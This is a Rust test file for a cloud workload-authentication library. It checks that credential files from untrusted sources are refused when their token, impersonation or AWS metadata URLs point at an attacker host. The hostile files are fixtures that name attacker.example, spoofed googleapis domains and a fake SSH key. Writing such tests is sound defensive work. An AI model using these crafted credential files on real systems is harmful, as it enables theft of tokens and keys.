//! Issue 8, finding 1: a credentials file from an untrusted source must not be able to send this
//! machine's secrets to a host of its author's choosing. Every test here builds a hostile file
//! and proves it is refused at load, before any request reaches the emulator (which stands in
//! for every local secret a file could name: the metadata server's token, an OIDC token URL, the
//! AWS instance metadata service).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::path::Path;

use common::*;
use serde_json::{Value, json};
use workload_auth_adc::{ALLOWED_ENDPOINTS_ENV, CredentialType, Credentials};
use workload_auth_core::ErrorKind;
use workload_auth_emulator::{Emulator, Endpoint};

const JWT_TYPE: &str = "urn:ietf:params:oauth:token-type:jwt";
const AWS_TYPE: &str = "urn:ietf:params:aws:token-type:aws4_request";

/// An `external_account` file whose subject token is the contents of `secret` and whose token
/// URL is `token_url`.
fn hostile_external(secret: &Path, token_url: &str) -> Value {
    json!({
        "type": "external_account",
        "audience": WORKLOAD_AUDIENCE,
        "subject_token_type": JWT_TYPE,
        "token_url": token_url,
        "credential_source": { "file": secret },
    })
}

/// A stand-in for a private key someone keeps in their home directory.
fn secret_file(home: &TempDir) -> std::path::PathBuf {
    home.write(
        ".ssh/id_ed25519",
        "-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key\n-----END OPENSSH PRIVATE KEY-----\n",
    )
}

fn assert_refused(err: &workload_auth_core::Error, field: &str) {
    assert_eq!(err.kind(), ErrorKind::InvalidCredentials, "{err}");
    assert!(err.message().contains(&format!("`{field}`")), "{err}");
    assert!(!err.to_string().contains("not-a-real-key"), "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn finding_1_hostile_token_url_refused_before_any_request() {
    let emu = emulator().await;
    let home = TempDir::new("tb-hostile");
    let secret = secret_file(&home);
    for token_url in [
        "https://attacker.example/v1/token",
        "https://sts.googleapis.com.attacker.example/v1/token",
        "https://attacker.example:443@sts.googleapis.com/v1/token",
        "https://storage.googleapis.com/attacker-bucket/token",
        "https://169.254.169.254/v1/token",
    ] {
        let path = home.write_json("hostile.json", &hostile_external(&secret, token_url));
        let err = builder_for(&home, &path).build().unwrap_err();
        assert_refused(&err, "token_url");
    }

    // The file could also have fetched this machine's own metadata-server token (or any local
    // OIDC endpoint) as the subject token: the source URL is free, but nothing is fetched
    // because the token URL it would go to is refused first.
    let mut file = hostile_external(&secret, "https://attacker.example/v1/token");
    file["credential_source"] = json!({
        "url": format!(
            "{}/computeMetadata/v1/instance/service-accounts/default/token",
            emu.url()
        ),
        "headers": { "Metadata-Flavor": "Google" },
        "format": { "type": "json", "subject_token_field_name": "access_token" },
    });
    let path = home.write_json("hostile-url.json", &file);
    assert_refused(&builder_for(&home, &path).build().unwrap_err(), "token_url");

    // The impersonation URL receives the federated token: same rule.
    let mut file = hostile_external(&secret, &format!("{}/v1/token", emu.url()));
    file["service_account_impersonation_url"] = json!(
        "https://attacker.example/v1/projects/-/serviceAccounts/a@b.iam.gserviceaccount.com:generateAccessToken"
    );
    let path = home.write_json("hostile-imp.json", &file);
    assert_refused(
        &builder_for(&home, &path).build().unwrap_err(),
        "service_account_impersonation_url",
    );

    // The other types' token endpoints receive refresh tokens, client secrets and signed
    // assertions.
    let mut user = authorized_user_json(&emu);
    user["token_uri"] = json!("https://attacker.example/token");
    let path = home.write_json("user.json", &user);
    assert_refused(&builder_for(&home, &path).build().unwrap_err(), "token_uri");
    let mut wf = external_authorized_user_json(&emu);
    wf["token_url"] = json!("https://attacker.example/v1/oauth/token");
    let path = home.write_json("wf.json", &wf);
    assert_refused(&builder_for(&home, &path).build().unwrap_err(), "token_url");
    let mut sa = service_account_json(&emu, "test_rsa_pkcs8.pem", SA_EMAIL, RSA_KEY_ID);
    sa["token_uri"] = json!("https://attacker.example/token");
    let path = home.write_json("sa.json", &sa);
    assert_refused(&builder_for(&home, &path).build().unwrap_err(), "token_uri");
    let imp = json!({
        "type": "impersonated_service_account",
        "service_account_impersonation_url":
            "https://attacker.example/v1/projects/-/serviceAccounts/t@p.iam.gserviceaccount.com:generateAccessToken",
        "source_credentials": authorized_user_json(&emu),
    });
    let path = home.write_json("imp.json", &imp);
    assert_refused(
        &builder_for(&home, &path).build().unwrap_err(),
        "service_account_impersonation_url",
    );

    assert_eq!(emu.total_requests(), 0, "nothing was sent anywhere");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn finding_1_a_files_own_universe_domain_does_not_widen_the_policy() {
    let emu = emulator().await;
    let home = TempDir::new("tb-universe");
    let secret = secret_file(&home);
    let mut file = hostile_external(&secret, "https://sts.attacker.example/v1/token");
    file["universe_domain"] = json!("attacker.example");
    let path = home.write_json("universe.json", &file);
    let err = builder_for(&home, &path).build().unwrap_err();
    assert_refused(&err, "token_url");
    assert!(err.hint().unwrap().contains("*.attacker.example"), "{err}");
    // Without a token_url the default is sts.UNIVERSE: refused the same way.
    file.as_object_mut().unwrap().remove("token_url");
    let path = home.write_json("universe-default.json", &file);
    assert_refused(&builder_for(&home, &path).build().unwrap_err(), "token_url");
    assert_eq!(emu.total_requests(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn finding_1_explicit_opt_in_allows_a_private_endpoint() {
    let home = TempDir::new("tb-optin");
    let secret = secret_file(&home);
    let path = home.write_json(
        "private.json",
        &hostile_external(&secret, "https://sts.corp.example/v1/token"),
    );
    let file = path.display().to_string();
    let vars = |allowed: &str| {
        vec![
            ("GOOGLE_APPLICATION_CREDENTIALS", file.clone()),
            (ALLOWED_ENDPOINTS_ENV, allowed.to_owned()),
        ]
    };
    // Refused by default; allowed by the variable (exactly, or by a wildcard) or the builder.
    assert_refused(&builder(&home, &vars("")).build().unwrap_err(), "token_url");
    for allowed in [
        "sts.corp.example",
        "*.corp.example",
        "other.example, STS.CORP.EXAMPLE.",
    ] {
        let creds = builder(&home, &vars(allowed)).build().unwrap();
        assert_eq!(creds.credential_type(), CredentialType::ExternalAccount);
    }
    builder_for(&home, &path)
        .with_allowed_endpoints(["sts.corp.example"])
        .build()
        .unwrap();
    // Other hosts stay refused.
    assert_refused(
        &builder(&home, &vars("token.corp.example,*.other.example"))
            .build()
            .unwrap_err(),
        "token_url",
    );
    // A list that could mean "everything" (or is malformed) is an error, not ignored.
    for bad in [
        "*",
        "*.example",
        "https://sts.corp.example",
        "a,,b",
        "sts.corp.example:443",
    ] {
        let err = builder(&home, &vars(bad)).build().unwrap_err();
        assert_eq!(err.kind(), ErrorKind::InvalidArgument, "{bad}: {err}");
        assert!(err.message().contains(ALLOWED_ENDPOINTS_ENV), "{err}");
    }
    let err = builder_for(&home, &path)
        .with_allowed_endpoints(["*"])
        .build()
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidArgument, "{err}");
    // Plain http to an allowed host is still refused.
    let http = home.write_json(
        "private-http.json",
        &hostile_external(&secret, "http://sts.corp.example/v1/token"),
    );
    assert_refused(
        &builder_for(&home, &http)
            .with_allowed_endpoints(["sts.corp.example"])
            .build()
            .unwrap_err(),
        "token_url",
    );
}

fn aws_file(emu: &Emulator, source: Value) -> Value {
    let mut source = source;
    source["environment_id"] = json!("aws1");
    if source.get("regional_cred_verification_url").is_none() {
        source["regional_cred_verification_url"] =
            json!("https://sts.{region}.amazonaws.com?Action=GetCallerIdentity&Version=2011-06-15");
    }
    json!({
        "type": "external_account",
        "audience": WORKLOAD_AUDIENCE,
        "subject_token_type": AWS_TYPE,
        "token_url": format!("{}/v1/token", emu.url()),
        "credential_source": source,
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn finding_1_aws_source_reads_only_the_instance_metadata_service() {
    let emu = emulator().await;
    let home = TempDir::new("tb-aws");
    let base = emu.url();
    let good = json!({
        "region_url": format!("{base}/latest/meta-data/placement/availability-zone"),
        "url": format!("{base}/latest/meta-data/iam/security-credentials"),
        "imdsv2_session_token_url": format!("{base}/latest/api/token"),
    });
    for (field, value) in [
        (
            "url",
            "http://attacker.example/latest/meta-data/iam/security-credentials",
        ),
        (
            "region_url",
            "http://attacker.example/latest/meta-data/placement/availability-zone",
        ),
        (
            "imdsv2_session_token_url",
            "http://attacker.example/latest/api/token",
        ),
        (
            "imdsv2_session_token_url",
            "https://169.254.169.254/latest/api/token",
        ),
        (
            "url",
            "http://169.254.169.253/latest/meta-data/iam/security-credentials",
        ),
        (
            "regional_cred_verification_url",
            "https://attacker.example?Action=GetCallerIdentity&Version=2011-06-15",
        ),
        (
            "regional_cred_verification_url",
            "https://sts.{region}.amazonaws.com.attacker.example?Action=GetCallerIdentity",
        ),
    ] {
        let mut source = good.clone();
        source[field] = json!(value);
        let path = home.write_json("aws.json", &aws_file(&emu, source));
        let err = builder_for(&home, &path).build().unwrap_err();
        assert_refused(&err, &format!("credential_source.{field}"));
    }
    assert_eq!(emu.total_requests(), 0);

    // The instance metadata service's own addresses load (nothing is fetched at load).
    let imds = json!({
        "region_url": "http://169.254.169.254/latest/meta-data/placement/availability-zone",
        "url": "http://169.254.169.254/latest/meta-data/iam/security-credentials",
        "imdsv2_session_token_url": "http://[fd00:ec2::254]/latest/api/token",
    });
    let path = home.write_json("aws-imds.json", &aws_file(&emu, imds));
    builder_for(&home, &path).build().unwrap();

    // A region that is not a region name (from the environment or the metadata service) cannot
    // move the signed request to another host.
    let aws = emu.config().identity.aws;
    let path = home.write_json("aws-env.json", &aws_file(&emu, json!({})));
    let vars = [
        ("GOOGLE_APPLICATION_CREDENTIALS", path.display().to_string()),
        ("AWS_REGION", "attacker.example/x".to_owned()),
        ("AWS_ACCESS_KEY_ID", aws.access_key_id.clone()),
        (
            "AWS_SECRET_ACCESS_KEY",
            aws.secret_access_key.expose().to_owned(),
        ),
    ];
    let err = builder(&home, &vars)
        .build()
        .unwrap()
        .access_token()
        .await
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidCredentials, "{err}");
    assert!(err.message().contains("region"), "{err}");
    assert_eq!(emu.requests(Endpoint::StsToken), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn finding_1_typed_loaders_refuse_other_types() {
    let emu = emulator().await;
    let home = TempDir::new("tb-typed");
    let secret = secret_file(&home);
    let external = hostile_external(&secret, &format!("{}/v1/token", emu.url())).to_string();
    let sa = service_account_json(&emu, "test_rsa_pkcs8.pem", SA_EMAIL, RSA_KEY_ID).to_string();
    let user = authorized_user_json(&emu).to_string();
    let wf = external_authorized_user_json(&emu).to_string();

    type Loader = fn(String) -> workload_auth_core::Result<Credentials>;
    let loaders: [(&str, Loader, &str); 5] = [
        (
            "service_account",
            |j| Credentials::from_service_account_json(j),
            &sa,
        ),
        (
            "authorized_user",
            |j| Credentials::from_authorized_user_json(j),
            &user,
        ),
        (
            "impersonated_service_account",
            |j| Credentials::from_impersonated_service_account_json(j),
            "",
        ),
        (
            "external_account",
            |j| Credentials::from_external_account_json(j),
            &external,
        ),
        (
            "external_account_authorized_user",
            |j| Credentials::from_external_account_authorized_user_json(j),
            &wf,
        ),
    ];
    for (expected, load, own) in loaders {
        for other in [&sa, &user, &external, &wf] {
            if other.as_str() == own {
                continue;
            }
            let err = load(other.clone()).unwrap_err();
            assert_eq!(
                err.kind(),
                ErrorKind::InvalidCredentials,
                "{expected}: {err}"
            );
            assert!(err.message().contains("does not accept"), "{err}");
            assert!(err.message().contains(expected), "{err}");
        }
    }

    // The expected type loads and works against the emulator.
    let creds = Credentials::from_service_account_json(sa.clone()).unwrap();
    assert_eq!(creds.credential_type(), CredentialType::ServiceAccount);
    let token = creds.access_token().await.unwrap();
    assert!(emu.issued_token(token.secret().expose()).is_some());

    // The `_file` twins read the file and apply the same rule.
    let sa_path = home.write("sa.json", &sa);
    let ext_path = home.write("ext.json", &external);
    assert_eq!(
        Credentials::from_service_account_file(&sa_path)
            .unwrap()
            .credential_type(),
        CredentialType::ServiceAccount
    );
    let err = Credentials::from_service_account_file(&ext_path).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidCredentials, "{err}");
    assert!(err.message().contains("external_account"), "{err}");
    assert_eq!(
        Credentials::from_external_account_file(&ext_path)
            .unwrap()
            .credential_type(),
        CredentialType::ExternalAccount
    );
    assert_eq!(emu.requests(Endpoint::StsToken), 0, "no exchange was made");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn finding_1_allowed_types_restrict_the_generic_search() {
    let emu = emulator().await;
    let home = TempDir::new("tb-allow");
    let secret = secret_file(&home);
    let path = home.write_json(
        "ext.json",
        &hostile_external(&secret, &format!("{}/v1/token", emu.url())),
    );
    // A file of a type not on the list is refused, whether named by the variable or given.
    let err = builder_for(&home, &path)
        .with_allowed_types([
            CredentialType::ServiceAccount,
            CredentialType::AuthorizedUser,
        ])
        .build()
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidCredentials, "{err}");
    assert!(err.message().contains("external_account"), "{err}");
    let err = builder(&home, &[])
        .with_credentials_file(&path)
        .with_allowed_types([CredentialType::ServiceAccount])
        .build()
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidCredentials, "{err}");
    // A type on the list loads.
    builder_for(&home, &path)
        .with_allowed_types([CredentialType::ExternalAccount])
        .build()
        .unwrap();

    // The metadata server is used only when listed.
    let err = builder(&home, &[])
        .with_metadata_host(emu.host())
        .with_allowed_types([CredentialType::ServiceAccount])
        .build()
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidCredentials, "{err}");
    assert!(err.message().contains("metadata_server"), "{err}");
    assert_eq!(emu.total_requests(), 0);
    let creds = builder(&home, &[])
        .with_metadata_host(emu.host())
        .with_allowed_types([CredentialType::MetadataServer])
        .build()
        .unwrap();
    creds.access_token().await.unwrap();
}

/// Finding 8: an impersonation URL whose path has an escape that is not `%` and two hex digits
/// is refused at load (it used to decode `%+1` as the byte 1).
#[test]
fn finding_8_malformed_escapes_in_an_impersonation_url_are_refused() {
    let home = TempDir::new("tb-escape");
    for bad in [
        "a%+1b@p.iam.gserviceaccount.com",
        "a%2x@p.iam.gserviceaccount.com",
        "a%",
    ] {
        let file = json!({
            "type": "impersonated_service_account",
            "service_account_impersonation_url": format!(
                "https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/{bad}:generateAccessToken"
            ),
            "source_credentials": {
                "type": "authorized_user",
                "client_id": CLIENT_ID,
                "client_secret": CLIENT_SECRET,
                "refresh_token": REFRESH_TOKEN,
            },
        });
        let path = home.write_json("imp.json", &file);
        let err = builder_for(&home, &path).build().unwrap_err();
        assert_eq!(err.kind(), ErrorKind::InvalidCredentials, "{bad}: {err}");
        assert!(
            err.message().contains("does not name a service account"),
            "{err}"
        );
    }
}

/// Serves one HTTP answer with `body` to the first connection on a loopback port.
async fn one_answer(body: &'static str) -> std::net::SocketAddr {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let mut request = Vec::new();
            let mut buf = [0u8; 4096];
            // Read the head and the (small) JSON body the client sends.
            loop {
                let n = stream.read(&mut buf).await.unwrap_or(0);
                request.extend_from_slice(&buf[..n]);
                if n == 0 || request.ends_with(b"}") {
                    break;
                }
            }
            let answer = format!(
                "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\
                 connection: close\r\n\r\n{body}",
                body.len()
            );
            let _ = stream.write_all(answer.as_bytes()).await;
        }
    });
    addr
}

/// Finding 8: an `expireTime` that is not a real date (February 31st, an offset past 23:59) is a
/// typed error, not a token with a made-up expiry.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn finding_8_impossible_expire_times_are_typed_errors() {
    let emu = emulator().await;
    let home = TempDir::new("tb-expire");
    for body in [
        r#"{"accessToken": "ya29.fake", "expireTime": "2026-02-31T00:00:00Z"}"#,
        r#"{"accessToken": "ya29.fake", "expireTime": "2026-03-01T00:00:00+99:00"}"#,
        r#"{"accessToken": "ya29.fake", "expireTime": "20260-03-01T00:00:00Z"}"#,
    ] {
        let iam = one_answer(body).await;
        let file = json!({
            "type": "impersonated_service_account",
            "service_account_impersonation_url": format!(
                "http://{iam}/v1/projects/-/serviceAccounts/{TARGET_SA}:generateAccessToken"
            ),
            "source_credentials": authorized_user_json(&emu),
        });
        let path = home.write_json("imp.json", &file);
        let err = builder_for(&home, &path)
            .build()
            .unwrap()
            .access_token()
            .await
            .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::MalformedResponse, "{body}: {err}");
        assert!(err.message().contains("expireTime"), "{err}");
        assert!(!err.to_string().contains("ya29.fake"), "{err}");
    }
}
